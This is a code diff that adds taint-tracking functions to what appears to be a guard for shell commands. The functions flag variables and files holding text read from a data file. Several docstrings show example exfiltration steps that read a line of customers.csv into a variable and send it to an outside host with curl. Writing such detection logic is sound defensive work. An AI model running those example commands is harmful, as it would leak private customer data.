@@ -226,3 +226,60 @@ def positional_args(an: Any, argv: list[str]) -> None:
 
 
 _RUNS_SCRIPTS = frozenset({"bash", "sh", "dash", "zsh", "ksh", "source", "."})
+
+
+DATA = "!data"  # rt54: a mark among a name's deps: its value may hold a data file's text (safety.flows.data_value)
+
+
+def may_hold_data(values: Values, name: str) -> bool:
+    """Whether ``name`` may hold text an earlier step read from a data file (``DATA``), through the names it refers to."""
+    seen: set[str] = set()
+    todo = [name]
+    while todo:
+        n = todo.pop()
+        if n in seen:
+            continue
+        seen.add(n)
+        if n == DATA:
+            return True
+        todo += list(values.deps.get(n, ())) + list(values.deps.get(ANY, ()))
+    return False
+
+
+FILE = "!file:"  # a key of ``deps``: a file a line that carried a data file's text wrote (its absolute path) -> {DATA}
+
+
+def mark_data(an: Any, notes: Notes, written: list[str]) -> None:
+    """At the end of the session's own line that carries a data file's text (``safety.flows.line_data``): every name
+    the line gave a value it did not read keeps ``DATA`` for later steps (``export T=$(sed -n 2p customers.csv)`` one
+    step, ``curl "http://h/$T"`` the next; ``printf -v U %s "$T"`` in between), and so does each file it wrote
+    (``sed -n 2p customers.csv > t.txt``, read back a step later)."""
+    for name, _, _ in notes.sources:
+        if may_hold_unread(an.values, name):
+            an.values.deps.setdefault(name, set()).add(DATA)
+    for path in written:
+        an.values.deps[FILE + path] = {DATA}
+
+
+def data_file(values: Values, path: str) -> bool:
+    """Whether an earlier line that carried a data file's text wrote ``path`` (absolute)."""
+    return FILE + path in values.deps
+
+
+def may_hold_unread(values: Values, name: str) -> bool:
+    """Whether ``name`` (``POSITIONAL`` for ``$1``/``$@``) may hold text the guard did not read, as far as what the
+    session and the line gave it goes (``deps``, followed through the names it refers to): a command's output, a
+    ``read``'s input, a file's text (rt54: ``T=$(sed -n 2p customers.csv)`` one step, ``curl "http://h/$T"`` the same
+    step or a later one). A name nothing set here (the environment's ``$ACCEPT``) is not."""
+    seen: set[str] = set()
+    todo = [name] if name in values.deps or name in ALWAYS_UNREAD else []
+    while todo:
+        n = todo.pop()
+        if n in seen:
+            continue
+        seen.add(n)
+        if n in (UNREAD, DATA) or n.startswith(CALL) or n in ALWAYS_UNREAD and n not in ("PWD", "OLDPWD", "DIRSTACK"):
+            return True
+        todo += [x for x in values.deps.get(n, ()) if x not in (ARRAY, NAMEREF)]
+        todo += list(values.deps.get(ANY, ()))
+    return False
